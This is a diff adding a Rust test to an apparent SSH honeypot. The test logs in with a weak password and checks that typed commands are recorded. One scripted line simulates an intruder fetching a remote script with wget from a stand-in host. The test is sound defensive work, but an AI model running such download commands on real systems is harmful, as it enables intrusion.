@@ -604,3 +604,76 @@ async fn whitelisted_sources_are_served_but_not_reported() {
     assert_eq!(h.counters()["whitelisted"], 1);
     h.stop().await;
 }
+
+#[tokio::test(flavor = "multi_thread")]
+async fn ssh_configured_user_gets_a_shell_whose_commands_are_logged() {
+    let mut h = Harness::start(
+        json!({"ssh": [{"port": 0, "users": {"admin": "Spring2025"}}]}),
+        no_limits(),
+    )
+    .await;
+    let addr = h.addr(Service::Ssh);
+    let port = addr.port();
+    let dir = harness::temp_dir("ssh-shell");
+    let known = format!("UserKnownHostsFile={}", dir.join("known_hosts").display());
+    let port_s = port.to_string();
+    let out = run(
+        "sshpass",
+        &[
+            "-p",
+            "Spring2025",
+            "ssh",
+            "-o",
+            "StrictHostKeyChecking=no",
+            "-o",
+            &known,
+            "-p",
+            &port_s,
+            "admin@127.0.0.1",
+            "id",
+        ],
+        &[],
+        LIMIT,
+    )
+    .await;
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert_eq!(
+        String::from_utf8_lossy(&out.stdout),
+        "uid=1000(admin) gid=1000(admin) groups=1000(admin),27(sudo)\n"
+    );
+    let events = h.until(Action::Query, 1, LIMIT).await;
+    let got: Vec<Value> = events.iter().map(normalized).collect();
+    assert_eq!(
+        got.last().unwrap(),
+        &expected(
+            "ssh",
+            "query",
+            port,
+            b"id",
+            json!({"username": "admin", "command": "id", "mode": "exec"})
+        )
+    );
+    // An interactive shell: each typed line is one query, `exit` ends the session.
+    let script = format!(
+        "(sleep 1; echo 'uname -a'; sleep 0.5; echo 'wget http://198.51.100.1/x.sh'; sleep 0.5; echo exit) \
+         | sshpass -p Spring2025 ssh -tt -o StrictHostKeyChecking=no -o {known} -p {port} admin@127.0.0.1"
+    );
+    let out = run("sh", &["-c", &script], &[], LIMIT).await;
+    let text = String::from_utf8_lossy(&out.stdout);
+    assert!(text.contains("admin@srv01:~$ "), "{text}");
+    assert!(text.contains("GNU/Linux"), "{text}");
+    assert!(text.contains("-bash: wget: command not found"), "{text}");
+    let events = h.until(Action::Query, 2, LIMIT).await;
+    let commands: Vec<&str> = events
+        .iter()
+        .filter(|e| e.action == Action::Query)
+        .filter_map(|e| e.extra["command"].as_str())
+        .collect();
+    assert_eq!(commands, ["uname -a", "wget http://198.51.100.1/x.sh"]);
+    h.stop().await;
+    let _ = std::fs::remove_dir_all(dir);
+}
